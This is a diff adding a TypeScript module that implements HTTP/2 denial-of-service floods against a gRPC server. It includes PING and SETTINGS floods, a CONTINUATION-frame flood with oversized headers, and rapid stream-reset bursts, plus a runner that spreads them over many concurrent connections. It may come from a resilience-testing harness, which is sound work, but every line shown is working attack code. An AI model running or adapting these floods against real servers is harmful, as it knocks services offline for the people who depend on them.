@@ -1,0 +1,44 @@
+import { type Attacker, type GrpcTarget, onConnections } from './grpc-connections.ts';
+import { callHeaders, endHeaders, frame, frameType, headerBlock, settings } from './http2-frames.ts';
+
+const times = (count: number, bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));
+
+/** Sends the same until the node ends the connection, or has taken so much of it. */
+async function pour(attacker: Attacker, bytes: Buffer, count: number): Promise<void> {
+  for (let sent = 0; sent < count; sent += 1) if (!(await attacker.send(bytes))) return;
+}
+
+const pings = times(1_000, frame(frameType.ping, 0, 0, Buffer.alloc(8)));
+const changes = times(1_000, settings({ 4: 65_535 }));
+const fields = headerBlock(Object.fromEntries(Array.from({ length: 80 }, (_, at) => [`name-${at}`, 'b'.repeat(150)])));
+
+/** Floods of frames that cost the node more than their sender. */
+export const floods: Readonly<Record<string, (attacker: Attacker) => Promise<void>>> = {
+  PING: (attacker) => pour(attacker, pings, 1_000),
+  SETTINGS: (attacker) => pour(attacker, changes, 1_000),
+  CONTINUATION: async (attacker) => {
+    await attacker.send(frame(frameType.headers, 0, attacker.nextStream(), fields));
+    await pour(attacker, frame(frameType.continuation, 0, 1, fields), 2_000);
+  },
+  'calls that are reset': async (attacker) => {
+    const headers = callHeaders('/svc.v1.HealthService/GetHealth');
+    for (let turn = 0; turn < 100; turn += 1) {
+      const calls = Array.from({ length: 100 }, () => {
+        const id = attacker.nextStream();
+        const reset = frame(frameType.rstStream, 0, id, Buffer.from([0, 0, 0, 8]));
+        return Buffer.concat([frame(frameType.headers, endHeaders, id, headers), reset]);
+      });
+      if (!(await attacker.send(Buffer.concat(calls)))) return;
+    }
+  },
+};
+
+/** All of them in turn, on connections of their own. */
+export function run(target: GrpcTarget, signal: AbortSignal, connections: number): Promise<void> {
+  let begun = 0;
+  const kinds = Object.values(floods);
+  return onConnections(target, signal, connections, async (attacker) => {
+    begun += 1;
+    await kinds[begun % kinds.length]?.(attacker);
+  });
+}
